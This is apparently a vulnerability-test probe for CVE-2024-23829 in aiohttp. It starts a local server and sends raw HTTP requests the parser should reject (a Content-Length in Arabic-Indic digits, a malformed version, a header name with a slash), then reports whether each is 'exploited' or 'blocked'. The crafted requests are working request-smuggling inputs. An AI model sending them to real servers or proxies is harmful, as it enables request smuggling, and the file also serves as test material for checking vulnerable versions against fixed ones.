# /// vertice-probe
# id = "PYSEC-2024-26"
# aliases = ["CVE-2024-23829", "GHSA-8qpw-xqxj-h4r2"]
# package = "aiohttp"
# summary = """\
#   The pure-Python HTTP parser takes characters that the grammar forbids, such as non-ASCII digits in \
#   Content-Length, so it and a proxy can disagree where a request ends."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:L/A:L" }]
# cwe = ["CWE-444"]
# kind = "request-smuggling"
# symbols = [
#   "aiohttp.web.Application",
#   "aiohttp.web.run_app",
#   "aiohttp.web.AppRunner",
#   "aiohttp.http_parser.HttpRequestParserPy",
# ]
#
# [[affected]]
# package = "aiohttp"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "3.9.2" }] }]
#
# [cases]
# attack = "a Content-Length in Arabic-Indic digits decides where the request ends"
# [cases.variants]
# version = "a request line whose version is not HTTP/digit.digit is accepted"
# name = "a header name with a slash, which is no token, is accepted"
# [cases.controls]
# upload = "an ordinary POST with a body works"
#
# [test]
# vulnerable = "3.9.1"
# fixed = "3.9.2"
# ///
"""CVE-2024-23829: lenient characters in the pure-Python request parser."""

import asyncio
import json
import os
import sys

os.environ["AIOHTTP_NO_EXTENSIONS"] = "1"  # the fault is in the parser written in Python


async def serve(raw):
    from aiohttp import http_parser, web

    if http_parser.HttpRequestParser is not http_parser.HttpRequestParserPy:
        raise RuntimeError("the parser in use is not the one written in Python")
    seen = []

    async def handler(request):
        seen.append((request.path, dict(request.headers), await request.read()))
        return web.Response(text="ok")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", handler)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    reader, writer = await asyncio.open_connection("127.0.0.1", runner.addresses[0][1])
    writer.write(raw)
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(), 10)
    writer.close()
    await runner.cleanup()
    return seen, answer


def send(raw, accepted):
    """`accepted` tells from what the handler saw whether the forbidden form was taken."""
    if upload()[0] != "works":
        raise RuntimeError("an ordinary request does not work")
    seen, answer = asyncio.run(serve(raw))
    if len(seen) == 1 and accepted(*seen[0]) and answer.startswith(b"HTTP/1."):
        return "exploited", "the application got the request, body %r" % seen[0][2].decode()
    if not seen and b" 400 " in answer[:16]:
        return "blocked", "the server refuses the request with 400 Bad Request"
    raise RuntimeError("neither accepted nor refused: %r %r" % (seen, answer[:80]))


def attack():
    digits = "\u0665".encode()  # ARABIC-INDIC DIGIT FIVE
    return send(
        b"POST / HTTP/1.1\r\nHost: shop\r\nConnection: close\r\nContent-Length: " + digits + b"\r\n\r\nhello",
        lambda path, headers, body: body == b"hello",
    )


def version():
    return send(
        b"GET /version HTTP/1x1\r\nHost: shop\r\nConnection: close\r\n\r\n",
        lambda path, headers, body: path == "/version",
    )


def name():
    return send(
        b"GET / HTTP/1.1\r\nHost: shop\r\nConnection: close\r\nX/Forwarded: 1\r\n\r\n",
        lambda path, headers, body: headers.get("X/Forwarded") == "1",
    )


def upload():
    seen, answer = asyncio.run(
        serve(b"POST /up HTTP/1.1\r\nHost: shop\r\nConnection: close\r\nContent-Length: 5\r\n\r\nhello")
    )
    if [(path, body) for path, _, body in seen] == [("/up", b"hello")] and answer.startswith(b"HTTP/1.1 200"):
        return "works", "body of 5 bytes received and answered with 200"
    return "broken", "seen %r, answered %r" % (seen, answer[:80])


CASES = {"attack": attack, "version": version, "name": name, "upload": upload}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
